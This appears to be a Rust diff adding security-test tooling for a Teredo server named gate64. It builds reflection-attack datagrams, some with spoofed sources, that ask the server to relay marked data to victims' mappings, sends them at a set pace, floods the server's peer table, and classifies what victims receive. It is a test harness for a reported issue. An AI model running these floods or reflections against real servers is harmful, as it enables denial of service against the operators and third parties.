@@ -491,6 +491,293 @@ pub fn run(cfg: &FloodConfig, stop: &AtomicBool) -> io::Result<FloodReport> {
     Ok(report)
 }
 
+/// Bytes every reflection-attack datagram carries where a payload or trailer goes, so that a
+/// victim can tell the attacker's bytes from gate64's own.
+pub const MARKER: &[u8; 16] = b"G64-REFLECT-ATK!";
+
+/// The datagrams of the reflection attack of issue 12: each asks gate64 to send something
+/// to the victim's mapping, encoded in a Teredo destination address.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Reflect {
+    /// A bubble from the attacker's own mapping with the marker as trailing bytes.
+    BubbleJunkTrailer,
+    /// A bare bubble from the attacker's own mapping (gate64 may relay it, rate-limited).
+    BubbleBare,
+    /// A bubble with a well-formed RFC 6081 nonce trailer (may be relayed, rate-limited).
+    BubbleNonceTrailer,
+    /// A bubble from a native IPv6 source (RFC 4380 §5.3.1 rule 6) with the marker after it.
+    NativeBubbleJunkTrailer,
+    /// An 80-byte ICMPv6 echo request carrying the marker (small ICMPv6).
+    SmallEcho,
+    /// A UDP packet carrying the marker, 600 bytes.
+    UdpPayload,
+    /// An echo request whose Teredo source does not embed the sender's mapping.
+    SpoofedSource,
+}
+
+impl Reflect {
+    /// Every kind, sent in turn.
+    pub const ALL: [Reflect; 7] = [
+        Reflect::BubbleJunkTrailer,
+        Reflect::BubbleBare,
+        Reflect::BubbleNonceTrailer,
+        Reflect::NativeBubbleJunkTrailer,
+        Reflect::SmallEcho,
+        Reflect::UdpPayload,
+        Reflect::SpoofedSource,
+    ];
+}
+
+/// Writes one reflection datagram of `kind` from the attacker's mapping `me` to the victim's
+/// mapping `victim`, both under the Teredo server `server`; returns its length.
+pub fn reflect_datagram(
+    kind: Reflect,
+    rng: &mut Rng,
+    server: Ipv4Addr,
+    me: SocketAddrV4,
+    victim: SocketAddrV4,
+    buf: &mut [u8; MAX_LEN],
+) -> usize {
+    let flags = rng.u16() & 0x3cff;
+    let src = teredo_address(server, flags, me.port(), *me.ip());
+    let dst = teredo_address(server, rng.u16() & 0x3cff, victim.port(), *victim.ip());
+    match kind {
+        Reflect::BubbleJunkTrailer | Reflect::BubbleBare | Reflect::BubbleNonceTrailer => {
+            ipv6_header(buf, 0, NH_NONE, &src, &dst);
+            let tail: &[u8] = match kind {
+                Reflect::BubbleJunkTrailer => MARKER,
+                Reflect::BubbleNonceTrailer => &[0x01, 0x04, 0x47, 0x36, 0x34, 0x21],
+                _ => &[],
+            };
+            buf[40..40 + tail.len()].copy_from_slice(tail);
+            40 + tail.len()
+        }
+        Reflect::NativeBubbleJunkTrailer => {
+            let native = Ipv6Addr::new(0x2001, 0xdb8, 0x7, 0, 0, 0, 0, 1);
+            ipv6_header(buf, 0, NH_NONE, &native, &dst);
+            buf[40..40 + MARKER.len()].copy_from_slice(MARKER);
+            40 + MARKER.len()
+        }
+        Reflect::SmallEcho => marked(buf, NH_ICMPV6, &src, &dst, 40),
+        Reflect::UdpPayload => marked(buf, 17, &src, &dst, 560),
+        Reflect::SpoofedSource => {
+            let other = teredo_address(server, flags, rng.u16(), rng.ipv4());
+            marked(buf, NH_ICMPV6, &other, &dst, 40)
+        }
+    }
+}
+
+/// An IPv6 packet with `payload` bytes of repeated [`MARKER`] (an ICMPv6 echo request header
+/// first when `nh` is ICMPv6; the checksum does not matter to a reflector).
+fn marked(buf: &mut [u8], nh: u8, src: &Ipv6Addr, dst: &Ipv6Addr, payload: usize) -> usize {
+    ipv6_header(buf, payload as u16, nh, src, dst);
+    let data = if nh == NH_ICMPV6 {
+        buf[40..48].copy_from_slice(&[128, 0, 0, 0, 0, 1, 0, 1]);
+        48
+    } else {
+        40
+    };
+    for (i, b) in buf[data..40 + payload].iter_mut().enumerate() {
+        *b = MARKER[i % MARKER.len()];
+    }
+    40 + payload
+}
+
+/// Settings of [`run_reflection`].
+#[derive(Debug, Clone)]
+pub struct ReflectConfig {
+    /// The Teredo server socket.
+    pub target: SocketAddrV4,
+    /// The attacker's address; its sockets' ports make its mappings.
+    pub bind: Ipv4Addr,
+    /// Attacker sockets.
+    pub sources: usize,
+    /// The mappings to reflect to.
+    pub victims: Vec<SocketAddrV4>,
+    /// Datagrams per second.
+    pub pps: u64,
+    /// How long to send.
+    pub duration: Duration,
+    /// PRNG seed.
+    pub seed: u64,
+}
+
+/// Sends [`Reflect`] datagrams of every kind in turn towards every victim, spread over the
+/// attacker's sockets, paced to `cfg.pps`, for `cfg.duration` or until `stop`. Returns the
+/// datagrams sent per kind (indexed like [`Reflect::ALL`]).
+pub fn run_reflection(cfg: &ReflectConfig, stop: &AtomicBool) -> io::Result<[u64; 7]> {
+    let sockets = (0..cfg.sources.max(1))
+        .map(|_| UdpSocket::bind(SocketAddrV4::new(cfg.bind, 0)))
+        .collect::<io::Result<Vec<_>>>()?;
+    let mapped = sockets
+        .iter()
+        .map(|s| match s.local_addr()? {
+            std::net::SocketAddr::V4(a) => Ok(a),
+            a => Err(io::Error::other(format!("not IPv4: {a}"))),
+        })
+        .collect::<io::Result<Vec<_>>>()?;
+    let mut rng = Rng::new(cfg.seed);
+    let mut buf = [0u8; MAX_LEN];
+    let mut sent = [0u64; 7];
+    let start = Instant::now();
+    let pace = Duration::from_secs_f64(1.0 / cfg.pps.max(1) as f64);
+    let mut n: u64 = 0;
+    while start.elapsed() < cfg.duration && !stop.load(Ordering::Relaxed) {
+        let due = start + pace.mul_f64(n as f64);
+        let now = Instant::now();
+        if due > now + Duration::from_millis(2) {
+            thread::sleep(due - now);
+        }
+        let k = (n % 7) as usize;
+        let s = (n / 7) as usize % sockets.len();
+        let victim = cfg.victims[(n as usize / 3) % cfg.victims.len().max(1)];
+        let len = reflect_datagram(
+            Reflect::ALL[k],
+            &mut rng,
+            *cfg.target.ip(),
+            mapped[s],
+            victim,
+            &mut buf,
+        );
+        if sockets[s].send_to(&buf[..len], cfg.target).is_ok() {
+            sent[k] += 1;
+        }
+        n += 1;
+    }
+    Ok(sent)
+}
+
+/// What arrived at a victim's socket, judged without gate64's code: a bubble (RFC 4380 §2.8:
+/// IPv6, next header 59, payload length 0) behind optional Teredo headers, then nothing or
+/// well-formed RFC 6081 trailers; anything else is foreign.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct VictimCounts {
+    /// Datagrams received.
+    pub datagrams: u64,
+    /// Bubbles with nothing after the IPv6 header.
+    pub bare_bubbles: u64,
+    /// Bubbles followed by well-formed RFC 6081 trailers.
+    pub bubbles_with_trailers: u64,
+    /// Anything else (a relayed payload, a bubble with junk after it).
+    pub foreign: u64,
+    /// Datagrams that contain [`MARKER`] anywhere.
+    pub marked: u64,
+}
+
+impl VictimCounts {
+    /// Classifies and counts one datagram.
+    pub fn add(&mut self, d: &[u8]) {
+        self.datagrams += 1;
+        if d.windows(MARKER.len()).any(|w| w == MARKER) {
+            self.marked += 1;
+        }
+        match bubble_tail(d) {
+            Some([]) => self.bare_bubbles += 1,
+            Some(t) if well_formed_trailers(t) => self.bubbles_with_trailers += 1,
+            _ => self.foreign += 1,
+        }
+    }
+}
+
+/// The bytes after the IPv6 header of a bubble behind optional authentication and origin
+/// headers; `None` when `d` is not such a bubble.
+fn bubble_tail(d: &[u8]) -> Option<&[u8]> {
+    let mut at = 0;
+    if d.get(..2)? == [0, 1] {
+        let (id, au) = (usize::from(*d.get(2)?), usize::from(*d.get(3)?));
+        at += 13 + id + au;
+    }
+    if d.get(at..at + 2)? == [0, 0] {
+        at += 8;
+    }
+    let ip = d.get(at..at + 40)?;
+    let bubble = ip[0] >> 4 == 6 && ip[4] == 0 && ip[5] == 0 && ip[6] == NH_NONE;
+    bubble.then(|| &d[at + 40..])
+}
+
+/// RFC 6081 §4 trailers: type, length, value; nonce (1, 4 bytes), alternate address (3,
+/// 2 + 6n bytes), neighbor discovery (4, 4 bytes), random port (5, 2 bytes).
+fn well_formed_trailers(mut t: &[u8]) -> bool {
+    while !t.is_empty() {
+        let (Some(&kind), Some(&len)) = (t.first(), t.get(1)) else {
+            return false;
+        };
+        let len = usize::from(len);
+        let ok = match kind {
+            1 | 4 => len == 4,
+            5 => len == 2,
+            3 => len >= 8 && (len - 2).is_multiple_of(6),
+            _ => false,
+        };
+        if !ok || t.len() < 2 + len {
+            return false;
+        }
+        t = &t[2 + len..];
+    }
+    true
+}
+
+/// Settings of [`run_peer_flood`].
+#[derive(Debug, Clone)]
+pub struct PeerFloodConfig {
+    /// The Teredo server socket.
+    pub target: SocketAddrV4,
+    /// The flooding host's address.
+    pub bind: Ipv4Addr,
+    /// Sockets (mappings) to send from.
+    pub sources: usize,
+    /// Datagrams per second.
+    pub pps: u64,
+    /// How long to send.
+    pub duration: Duration,
+}
+
+/// Fills a Teredo peer table from one host (issue 12): from each of `cfg.sources` sockets,
+/// bubbles whose source is that socket's own mapping (so they pass RFC 4380 §5.4.2) under
+/// every flag value in turn, to the server's link-local address. Returns datagrams sent.
+pub fn run_peer_flood(cfg: &PeerFloodConfig, stop: &AtomicBool) -> io::Result<u64> {
+    let sockets = (0..cfg.sources.max(1))
+        .map(|_| UdpSocket::bind(SocketAddrV4::new(cfg.bind, 0)))
+        .collect::<io::Result<Vec<_>>>()?;
+    let mut ports = Vec::with_capacity(sockets.len());
+    for s in &sockets {
+        ports.push(s.local_addr()?.port());
+    }
+    let server = *cfg.target.ip();
+    let c = u32::from(server) ^ 0xffff_ffff;
+    // RFC 4380 §5.3.2: fe80::8000:<port ^ ffff>:<server ^ ffffffff>.
+    let server_ll = Ipv6Addr::new(
+        0xfe80,
+        0,
+        0,
+        0,
+        0x8000,
+        cfg.target.port() ^ 0xffff,
+        (c >> 16) as u16,
+        c as u16,
+    );
+    let mut buf = [0u8; 40];
+    let start = Instant::now();
+    let pace = Duration::from_secs_f64(1.0 / cfg.pps.max(1) as f64);
+    let mut n: u64 = 0;
+    while start.elapsed() < cfg.duration && !stop.load(Ordering::Relaxed) {
+        if n.is_multiple_of(64) {
+            let due = start + pace.mul_f64(n as f64);
+            let now = Instant::now();
+            if due > now + Duration::from_millis(2) {
+                thread::sleep(due - now);
+            }
+        }
+        let i = n as usize % sockets.len();
+        let flags = (n / sockets.len() as u64) as u16;
+        let src = teredo_address(server, flags, ports[i], cfg.bind);
+        ipv6_header(&mut buf, 0, NH_NONE, &src, &server_ll);
+        let _ = sockets[i].send_to(&buf, cfg.target);
+        n += 1;
+    }
+    Ok(n)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -632,5 +919,27 @@ mod tests {
         let report = run(&cfg, &AtomicBool::new(true)).unwrap();
         assert!(report.stopped_early);
         assert_eq!(report.sent, 0);
+    }
+
+    #[test]
+    fn victim_counts_tell_bubbles_from_payloads() {
+        let mut rng = Rng::new(3);
+        let server = Ipv4Addr::new(192, 0, 2, 1);
+        let me: SocketAddrV4 = "203.0.113.20:4000".parse().unwrap();
+        let victim: SocketAddrV4 = "198.18.0.10:5001".parse().unwrap();
+        let mut buf = [0u8; MAX_LEN];
+        let mut c = VictimCounts::default();
+        for kind in Reflect::ALL {
+            let len = reflect_datagram(kind, &mut rng, server, me, victim, &mut buf);
+            // As gate64 would relay it: origin indication first.
+            let mut d = vec![0, 0, 1, 2, 3, 4, 5, 6];
+            d.extend_from_slice(&buf[..len]);
+            c.add(&d);
+        }
+        assert_eq!(c.datagrams, 7);
+        assert_eq!(c.bare_bubbles, 1);
+        assert_eq!(c.bubbles_with_trailers, 1);
+        assert_eq!(c.foreign, 5);
+        assert_eq!(c.marked, 5);
     }
 }
